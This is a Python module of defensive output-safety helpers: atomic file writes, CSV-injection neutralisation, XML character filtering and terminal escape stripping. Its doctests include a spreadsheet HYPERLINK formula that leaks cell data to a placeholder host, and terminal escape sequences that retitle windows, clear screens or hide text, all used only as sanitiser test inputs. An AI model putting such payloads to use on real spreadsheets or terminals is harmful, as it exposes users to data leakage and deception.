"""Safety rules every writer shares: atomic files, spreadsheet-safe cells, clean text.

- `atomic_file(path)` writes beside the target and moves the result into place, so a
  full disk or a kill never leaves half a file where the previous good one was; an
  existing folder, a read-only place or a full disk become one Graph071Error naming
  the path.
- `spreadsheet_cell(value)` neutralises what a spreadsheet would evaluate in a CSV file
  (the OWASP rule for CSV injection: a leading = + - @ tab or carriage return gets a '
  in front); `keep_as_text(cell)` makes an openpyxl cell plain text, never a formula.
- `xml_text(text)` drops characters XML 1.0 cannot hold (GraphML, GEXF).
- `terminal_text(text)` drops escape sequences and control characters, so data never
  sets a window title, clears the screen or hides text.
"""

from __future__ import annotations

import contextlib
import errno
import os
import re
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import IO, Any

from graph071 import i18n
from graph071.errors import Graph071Error

# OWASP "CSV injection": cells starting with these are formulas (or become one) in Excel,
# LibreOffice and Google Sheets.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# ESC [ ... final byte (CSI), ESC ] ... BEL or ESC \ (OSC, e.g. hyperlinks and window
# titles), other two-byte ESC sequences, then any remaining C0/C1 control character.
_ESCAPE_SEQUENCE = re.compile(
    r"\x1b\[[0-?]*[ -/]*[@-~]"
    r"|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?"
    r"|\x1b[PX^_][^\x1b]*(?:\x1b\\)?"
    r"|\x1b[@-Z\\-_]?"
    r"|\x9b[0-?]*[ -/]*[@-~]|\x9d[^\x07\x9c]*[\x07\x9c]?")
# C0 and C1 controls but newline, and the bidi overrides that can hide or reorder text.
_CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
# XML 1.0 allows tab, newline, carriage return and everything from U+0020 but surrogates
# and U+FFFE/U+FFFF.
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def spreadsheet_cell(value: Any) -> Any:
    """Return `value` as a spreadsheet may hold it: text a spreadsheet would evaluate gets a '.

    Numbers stay numbers; only text is changed.

    >>> spreadsheet_cell('=HYPERLINK("http://x/?"&A1,"klik")')
    '\\'=HYPERLINK("http://x/?"&A1,"klik")'
    >>> spreadsheet_cell("-5"), spreadsheet_cell(-5), spreadsheet_cell("gemeente Leiden")
    ("'-5", -5, 'gemeente Leiden')
    """
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def spreadsheet_row(values: list[Any]) -> list[Any]:
    """Return the cells of one row, each through `spreadsheet_cell`."""
    return [spreadsheet_cell(value) for value in values]


def keep_as_text(cell: Any) -> Any:
    """Mark an openpyxl cell holding text as text, so "=..." is never stored as a formula.

    openpyxl stores every string that starts with "=" as a formula; a text cell is shown
    as written and never evaluated (no ' is needed in a workbook). Returns the cell.
    """
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


def terminal_text(text: str, *, keep_newlines: bool = True) -> str:
    """Return `text` without escape sequences and control characters (tabs become spaces).

    >>> terminal_text("Leiden\\x1b]0;pwned\\x07 \\x1b[2Jok\\x1b[8m")
    'Leiden ok'
    """
    text = _ESCAPE_SEQUENCE.sub("", text).replace("\t", " ").replace("\r\n", "\n")
    if not keep_newlines:
        text = text.replace("\n", " ")
    return _CONTROL.sub("", text)


def xml_text(text: str) -> str:
    """Return `text` without the characters XML 1.0 cannot carry (escape sequences removed).

    >>> xml_text("Ondernemers\\x00vereniging\\x1b[31m")
    'Ondernemersvereniging'
    """
    return _NOT_XML.sub("", _ESCAPE_SEQUENCE.sub("", text))


def _message(path: Path, error: OSError) -> Graph071Error:
    if isinstance(error, IsADirectoryError) or path.is_dir():
        return Graph071Error(i18n.text("error:safe.folder", "{path}: is a folder, not a file", path=path),
                             hint=i18n.text("error:safe.folder.hint", "give a file name, e.g. {example}",
                                            example=path / ('graph071' + (path.suffix or '.html'))))
    if error.errno in (errno.ENOSPC, errno.EDQUOT, errno.EFBIG):
        return Graph071Error(i18n.text("error:safe.full", "{path}: the disk is full; nothing was written (the "
                                       "previous file, if any, is unchanged)", path=path),
                             hint=i18n.text("error:safe.full.hint", "free some space or write elsewhere"))
    if isinstance(error, FileNotFoundError) and not path.parent.is_dir():
        return Graph071Error(i18n.text("error:no_folder", "{path}: folder {folder} does not exist", path=path,
                                       folder=path.parent),
                             hint=i18n.text("error:no_folder.hint", "create the folder first or choose another path"))
    if isinstance(error, PermissionError) or error.errno in (errno.EROFS, errno.EACCES):
        return Graph071Error(i18n.text("error:safe.permission", "{path}: cannot write here ({why})", path=path,
                                       why=error.strerror or i18n.text("error:safe.no_permission", "no permission")),
                             hint=i18n.text("error:safe.permission.hint", "choose a folder you can write to"))
    return Graph071Error(i18n.text("error:safe.cannot_write", "{path}: cannot write the file ({why})", path=path,
                                   why=error.strerror or error))


def check_writable(path: Path) -> None:
    """Raise one Graph071Error when `path` cannot be a file we write (a folder, no folder)."""
    path = Path(path)
    if path.is_dir():
        raise _message(path, IsADirectoryError(errno.EISDIR, "is a folder"))
    if not path.parent.is_dir():
        raise _message(path, FileNotFoundError(errno.ENOENT, "no folder"))


@contextlib.contextmanager
def atomic_path(path: Path | str) -> Iterator[Path]:
    """Yield a temporary path beside `path`; on success it replaces `path` in one step.

    On any error the temporary file is removed and `path` is left as it was; an OSError
    becomes one Graph071Error naming `path`.
    """
    path = Path(path)
    check_writable(path)
    try:
        handle, name = tempfile.mkstemp(prefix=f".{path.name}.", suffix=".tmp", dir=path.parent)
        os.close(handle)
    except OSError as error:
        raise _message(path, error) from None
    temporary = Path(name)
    try:
        yield temporary
        _keep_mode(path, temporary)
        os.replace(temporary, path)
    except OSError as error:
        temporary.unlink(missing_ok=True)
        raise _message(path, error) from None
    except BaseException:
        temporary.unlink(missing_ok=True)
        raise


def _keep_mode(path: Path, temporary: Path) -> None:
    # mkstemp makes the file 0600; a written file gets the mode a plain open() would give.
    try:
        mode = path.stat().st_mode & 0o777
    except FileNotFoundError:
        umask = os.umask(0)
        os.umask(umask)
        mode = 0o666 & ~umask
    os.chmod(temporary, mode)


@contextlib.contextmanager
def atomic_file(path: Path | str, mode: str = "w", *, encoding: str | None = "utf-8",
                newline: str | None = None) -> Iterator[IO[Any]]:
    """Yield an open file whose content replaces `path` atomically when the block ends.

    The data is flushed to disk before the move, so the old file is replaced only by a
    complete new one.
    """
    with atomic_path(path) as temporary:
        binary = "b" in mode
        with open(temporary, mode, encoding=None if binary else encoding,
                  newline=None if binary else newline) as handle:
            yield handle
            handle.flush()
            os.fsync(handle.fileno())


def write_text(path: Path | str, text: str, *, encoding: str = "utf-8",
               newline: str | None = None) -> Path:
    """Write `text` to `path` atomically; return the path."""
    with atomic_file(path, "w", encoding=encoding, newline=newline) as handle:
        handle.write(text)
    return Path(path)
